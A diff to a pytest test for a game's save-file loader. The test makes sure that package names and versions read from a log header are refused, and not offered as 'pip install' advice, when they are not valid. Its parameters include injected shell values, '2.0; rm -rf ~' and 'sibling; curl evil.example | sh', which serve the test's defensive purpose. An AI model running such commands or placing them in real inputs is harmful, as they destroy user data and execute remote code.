@@ -429,7 +429,7 @@ def test_a_game_cleared_on_a_read_only_folder_stays_and_nothing_fails(
     ("package", "version", "advice"),
     [
         ("solitaire-sibling", "2.0.1", "install it with pip install 'solitaire-sibling==2.0.1'"),
-        ("solitaire-sibling", "2.0; rm -rf ~", "install it with pip install 'solitaire-sibling'"),
+        ("solitaire-sibling", "2.0; rm -rf ~", None),
         ("sibling; curl evil.example | sh", "1.0", None),
         ("it's", None, None),
     ],
@@ -442,12 +442,16 @@ def test_the_advice_names_only_a_package_that_looks_like_one(
     version: str | None,
     advice: str | None,
 ) -> None:
+    """A package or version that is not a distribution name or version number (PEP 508,
+    PEP 440) refuses the log (docs/log-format.md): the file is kept aside, never advised."""
     data = json.loads((tmp_path / CURRENT).read_bytes())
     data["log"]["header"]["variant"].update({"package": package, "version": version})
     (tmp_path / CURRENT).write_text(json.dumps(data), encoding="utf-8")
     store = Store(tmp_path)
     assert store.load_game(catalog) is None
     (notice,) = store.take_notices()
-    assert "curl" not in notice and "rm -rf" not in notice and "it's" not in notice
     if advice is not None:
         assert "'sibling', which is not installed" in notice and advice in notice
+    else:
+        assert "pip install" not in notice and "header.variant." in notice
+        assert "is not a distribution name" in notice or "is not a version number" in notice
